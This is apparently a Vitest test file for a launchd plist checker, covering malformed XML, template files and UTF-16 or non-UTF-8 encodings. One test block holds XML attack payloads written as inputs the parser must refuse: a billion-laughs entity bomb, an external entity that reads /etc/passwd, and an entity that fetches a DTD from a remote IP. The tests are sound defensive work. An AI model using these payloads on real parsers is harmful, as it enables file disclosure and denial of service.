import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, test } from 'vitest';
import { decodeText, encodeText } from '../../server/src/cli/files/read-text.ts';
import { decodePlist, plistEncodingOf } from '../../server/src/core/plist/encoding.ts';
import { buildCli, type Cli } from '../cli/cli.ts';
import { check } from '../harness/check.ts';

const path = '/Library/LaunchDaemons/org.example.job.plist';
const rulesOf = async (text: string, file = path) =>
  (await check({ language: 'launchd', path: file, text })).diagnostics.map(({ rule }) => rule);

describe('what attacks a reader', () => {
  const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('\n');
  test.for([
    [
      'a billion laughs',
      `<!DOCTYPE plist [\n<!ENTITY l0 "lol">\n${laughs}\n]>\n<plist><string>&l12;</string></plist>\n`,
    ],
    [
      'an external entity',
      '<!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<plist><string>&x;</string></plist>\n',
    ],
    [
      'an entity of the network',
      '<!DOCTYPE plist [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>\n<plist><true/></plist>\n',
    ],
    ['half a tag', '<plist version="1.0">\n<dict>\n  <key>Label</key>\n  <string>org.example.job</str'],
    ['half a start tag', '<plist version="1.0">\n<dict>\n  <key>Label</key>\n  <stri'],
    ['half an entity', '<plist version="1.0"><string>a &am'],
  ] as const)('%s is refused', async ([, text]) => {
    expect(await rulesOf(text, '/srv/x.plist')).toContain('launchd/xml-syntax');
  });

  it('with arrays in each other, 100,000 of them, is answered in time', async () => {
    const deep = `<plist version="1.0">\n${'<array>'.repeat(100_000)}${'</array>'.repeat(100_000)}\n</plist>\n`;
    const start = process.cpuUsage();
    expect(await rulesOf(deep, '/srv/x.plist')).toEqual([]);
    expect(process.cpuUsage(start).user / 1_000_000).toBeLessThan(10);
  });
});

describe('templates', () => {
  it('are not flagged for being some', async () => {
    const text = `{# the Macs #}
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0">
<dict>
  <key>Label</key>
  <string>{{ label }}</string>
  <key>ProgramArguments</key>
  <array>
    <string>@prefix@/sbin/iceccd</string>
    <string>-m</string>
    <string>{{ jobs }}</string>
    <string>--no-remote</string>
    {% for word in more %}
    <string>{{ word }}</string>
    {% endfor %}
  </array>
  <key>StandardOutPath</key>
  <string>\${LOG_DIR}/iceccd.log</string>
  <key>ThrottleInterval</key>
  <integer>{{ seconds }}</integer>
  {% if alive %}
  <key>KeepAlive</key>
  <{% if alive %}true{% else %}false{% endif %}/>
  {% endif %}
</dict>
</plist>
`;
    expect(await rulesOf(text, '/srv/LaunchDaemons/org.example.job.plist.j2')).toEqual([]);
  });

  it('are still read: what is broken in them is said', async () => {
    const text = '<plist version="1.0">\n<dict>\n  {{ more }}\n  <key>Nice</key>\n  <integer>five</integer>\n</dict>\n';
    expect(await rulesOf(text, '/srv/x.plist.j2')).toEqual(['launchd/invalid-value', 'launchd/xml-syntax']);
  });
});

const list = (encoding: string) =>
  `<?xml version="1.0" encoding="${encoding}"?>\n<plist version="1.0">\n<string>é 🔒</string>\n</plist>\n`;
const utf16 = (text: string, little = true) =>
  encodeText(text, { byteOrderMark: true, encoding: little ? 'utf-16le' : 'utf-16be' });

describe('UTF-16', () => {
  let cli: Cli;
  beforeAll(async () => {
    cli = await buildCli('real');
    await cli.write({ 'eight.plist': list('UTF-8') });
    await writeFile(join(cli.folder, 'little.plist'), utf16(list('UTF-16')));
    await writeFile(join(cli.folder, 'big.plist'), utf16(list('UTF-16'), false));
    await writeFile(join(cli.folder, 'nginx.conf'), utf16('events {}\n'));
  });
  afterAll(() => cli.remove());

  it('is told by its mark, and only for property lists', () => {
    expect(plistEncodingOf(utf16(list('UTF-16')))).toBe('utf-16le');
    expect(plistEncodingOf(utf16(list('UTF-16'), false))).toBe('utf-16be');
    expect(plistEncodingOf(utf16('events {}\n'))).toBe('utf-8');
    expect(decodePlist(utf16(list('UTF-16')))).toBe(list('UTF-16'));
  });

  it.each([true, false])('comes back as it was, little end first: %s', (little) => {
    const bytes = utf16(list('UTF-16'), little);
    const read = decodeText(bytes);
    expect(read).toMatchObject({ text: list('UTF-16'), lossless: true, byteOrderMark: true });
    expect(encodeText(read.text, read)).toEqual(bytes);
  });

  it('is read with a diagnostic in the editor, whose text has no bytes', async () => {
    expect(await rulesOf(list('UTF-16'), '/srv/x.plist')).toEqual(['launchd/encoding']);
    expect(await rulesOf(list('UTF-8'), '/srv/x.plist')).toEqual([]);
  });

  it('is read with a diagnostic on the command line, and shown', async () => {
    const { stdout, code } = await cli.run(['check', 'little.plist', 'big.plist', 'eight.plist']);
    expect(code).toBe(1);
    expect(stdout.match(/launchd\/encoding/g)).toHaveLength(2);
    expect((await cli.run(['show-plist', 'little.plist'])).stdout).toBe(list('UTF-16'));
    expect((await cli.run(['check', 'nginx.conf'])).stderr).toContain('binary file');
  });
});

describe('bytes that are no UTF-8', () => {
  const bytes = Buffer.from(list('UTF-8').replace('é', '\xE9'), 'latin1');
  let cli: Cli;
  beforeAll(async () => {
    cli = await buildCli('real');
    await writeFile(join(cli.folder, 'bytes.plist'), bytes);
    await writeFile(join(cli.folder, 'latin.plist'), Buffer.from(list('ISO-8859-1').replace(' 🔒', ''), 'latin1'));
    await writeFile(join(cli.folder, 'sign.plist'), list('UTF-8').replace('é', '\uFFFD'));
  });
  afterAll(() => cli.remove());

  it('are an error on the command line, which sees them', async () => {
    const { stdout } = await cli.run(['check', 'bytes.plist']);
    expect(stdout).toMatch(/bytes\.plist:3:9.*error.*no UTF-8/s);
    const piped = await cli.run(['check', '--stdin', '--language', 'launchd'], { stdin: bytes });
    expect(piped.stdout).toMatch(/error.*no UTF-8/s);
  });

  it('are none where the list names the encoding that it has, or holds the sign itself', async () => {
    const { stdout } = await cli.run(['check', 'latin.plist', 'sign.plist']);
    expect(stdout).not.toContain('error');
  });

  it('are a doubt in an editor, which shows U+FFFD for them', async () => {
    const { diagnostics } = await check({
      language: 'launchd',
      path: '/srv/x.plist',
      text: list('UTF-8').replace('é', '\uFFFD'),
    });
    expect(diagnostics.map(({ rule, severity }) => `${severity} ${rule}`)).toEqual(['warning launchd/encoding']);
  });
});
